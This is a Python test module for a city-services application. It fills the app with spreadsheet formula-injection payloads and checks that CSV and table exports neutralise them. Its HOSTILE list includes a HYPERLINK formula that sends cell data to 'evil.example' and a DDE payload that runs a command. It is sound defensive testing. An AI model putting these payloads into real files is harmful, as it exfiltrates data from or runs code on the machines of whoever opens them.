"""Tables that leave the city (CSV and whatever a spreadsheet opens), with texts in them that a spreadsheet would run."""

import csv
import io
import json
import pathlib
import re
import shutil

from everybody import MOMENT, NORTH, EverybodysCity, uuid
from nodes import ROOT
from test_forgery import own

#: What people write into names and notes so that whoever opens the table runs it; the last ones only look like it.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"ok")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "=cmd|' /C calc'!A0", "+81-6-6208-0000", "-", "=", "'=1+1", "''=1+1",
    "a,=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1", 'a"\n"=1+1', '"=1+1"', " =1+1", "'a", "’=1+1", "大阪　太郎",
]
#: Where tables are known to leave; others are found by their answers.
KNOWN = [
    "/plan.csv", "/plan/{number}.csv", "/procedures.csv", "/office/adoption.csv", "/office/adoption/{id}/days.csv",
    "/office/terminals/sheet?as=csv", "/office/terminals/statistics?as=csv",
]
#: Things that everybody may see and that are in one of them.
EXAMPLES = {"/plan/{number}": "/plan/26", "/office/adoption/{id}/days.csv": "/office/adoption/sodai-gomi/days.csv"}
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")
TABLE = re.compile(r"text/(csv|tab-separated-values)|spreadsheet|ms-excel", re.I)
NAME = re.compile(r"\.(csv|tsv|xlsx?|ods|fods)\b", re.I)


def is_neutral(cell):
    """Whether a spreadsheet takes a cell for text or a number: read here a second time, and not by the program's own code."""
    return not cell.startswith(DANGEROUS) or re.fullmatch(r"[+-][0-9.]+", cell) is not None


def text(cell):
    """The text of a cell: without the apostrophe that made it harmless."""
    bare = cell.lstrip("'")
    is_ours = cell.startswith("'") and bare.startswith(DANGEROUS) and not (
        cell == "'" + bare and re.fullmatch(r"[+-][0-9.]+", bare))
    return cell[1:] if is_ours else cell


def rows(content):
    """The cells of a table as the city sends it."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content[3:].decode(), newline=""), strict=True))


def hostile_pack(folder):
    """A pack whose own texts are hostile: a procedure, an initiative, an indicator, a form, an office; its path."""
    city = pathlib.Path(folder) / "City"
    shutil.copytree(ROOT / "City", city)
    for file, pattern in [("osaka/online/sodai-gomi.yml", r'ja: "粗大ごみの収集申込み"'),
                          ("osaka/plan/26-bulky-waste.yml", r"ja: 粗大ごみの申込はスマホが便利"),
                          ("osaka/plan/26-bulky-waste.yml", r"ja: チャットボットの利用率"),
                          ("osaka/places/wards.yml", r"ja: 北区役所")]:
        path = city / file
        changed, count = re.subn(pattern, "ja: " + json.dumps(HOSTILE[0]).replace("\\", "\\\\"), path.read_text(), count=1)
        assert count == 1, (file, pattern)
        path.write_text(changed)
    return city / "osaka"


class HostileCity(EverybodysCity):
    """A city full of such texts."""

    def __init__(self, folder):
        super().__init__(folder, pack=str(hostile_pack(folder)))
        self.database.execute("UPDATE device SET place = ?", (HOSTILE[0],))
        for number, hostile in enumerate(HOSTILE):
            self.insert("device", id=uuid(0xD000 + number), kind="terminal", ward=NORTH, name=f"{hostile} {number}",
                        place=hostile, key_hash=f"{number:064x}", enrolled_at=MOMENT)
        self.database.commit()

    def tables(self):
        """Every table that the city sends, by its route; as the first who gets it."""
        found = {}
        for route in self.routes:
            if route["method"] != "GET" or route["path"].endswith("/events"):
                continue
            for more in ("", "?as=csv", ".csv"):
                if (route["path"] in found) or (more == ".csv" and not route["path"].endswith("}")):
                    continue
                answer = self.first_answer(route, more)
                # Files that somebody sent are theirs, and saved as they came.
                if answer is not None and "/files/" not in route["path"] and (
                        TABLE.search(answer.headers.get("content-type", ""))
                        or NAME.search(answer.headers.get("content-disposition", ""))):
                    found[route["path"] + more] = answer
        return found

    def first_answer(self, route, more):
        """What the first gets who gets something."""
        for person in self.people:
            if person.may(route):
                answer = person.client.get((EXAMPLES.get(route["path"]) or own(self, person, route)) + more)
                if answer.status_code == 200:
                    return answer
        return None
